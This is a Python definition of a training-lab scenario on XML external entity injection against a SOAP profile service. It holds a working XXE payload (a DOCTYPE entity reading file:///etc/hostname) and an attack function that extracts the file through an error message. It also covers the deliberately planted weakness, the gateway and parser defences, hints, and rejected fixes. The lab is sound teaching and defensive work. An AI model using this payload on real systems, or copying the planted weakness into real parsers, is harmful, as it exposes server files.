"""A document names a file, and the parser puts it in (XML external entities)."""

from __future__ import annotations

from scenarios.lab import soap
from scenarios.lab.model import Control, Outcome, Plant, Remove, Scenario, WrongFix
from scenarios.lab.target import Target

CANARY = "CANARY (no real secret)"
DOCTYPE = '<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/hostname">]>'


def attack(lab: Target) -> Outcome:
    """Carol's account asks for the profile of a file; the refusal of so odd a username quotes it."""
    answer = soap.call(lab, "carol", "ReadProfile", {"username": "&file;"}, doctype=DOCTYPE)
    stolen = CANARY in answer.body.decode("utf-8", "replace")
    return Outcome(
        breached=stolen,
        got="a file of the server, in the error message" if stolen else "a refusal that quotes nothing",
        measures={"the fault quotes the file": "yes" if stolen else "no"},
    )


def benign(lab: Target) -> bool:
    """Carol reads Bob's profile."""
    return soap.call(lab, "carol", "ReadProfile", {"username": "bob"}).status == 200


SCENARIO = Scenario(
    id="soap-xxe",
    title="A document that reads files",
    story=(
        "XML lets a document define shorthands, and one may stand for a file. The parser puts in what it finds. "
        "The value is then refused, politely, with the value in the message: that is where the file comes out."
    ),
    references=("CWE-611", "OWASP XXE Prevention Cheat Sheet", "SOAP 1.1 section 3"),
    claims=("C7",),
    difficulty=3,
    minutes=8,
    weaknesses=(Remove("profiles-soap", "SoapGuard"), Plant("profiles", "reads-files")),
    control=Control(
        name="no document type declaration, at the gateway and in the service's parser",
        where="gateway",
        lines="- {type: SoapGuard, wsdl: profiles.wsdl, onlyListed: true}   # the first <!DOCTYPE ends it",
        elsewhere="# lxml, in the service\netree.XMLParser(resolve_entities=False, load_dtd=False, no_network=True)",
    ),
    attack=attack,
    benign=benign,
    hints=(
        "SOAP 1.1 section 3: which parts of XML must a message not contain?",
        "Where in the answer could the text of a file come out? Not only where data is shown.",
        "Refuse the DOCTYPE: where there is none, there are no entities to resolve.",
    ),
    wrong_fixes=(
        WrongFix("refuse bodies with the text SYSTEM", "PUBLIC reads files, too, and UTF-16 hides both words."),
        WrongFix("no network for the parser", "file:// needs no network."),
        WrongFix("quote no values in errors", "The file still gets in: into a field that is stored and shown later."),
    ),
    questions=(
        (
            "What is real here, and what is not?",
            "The parser is real, its settings are weak. Files come from a folder of canaries, whatever is named.",
        ),
        ("Why refuse at both places?", "The next service behind the gateway may use another parser; and the reverse."),
    ),
)
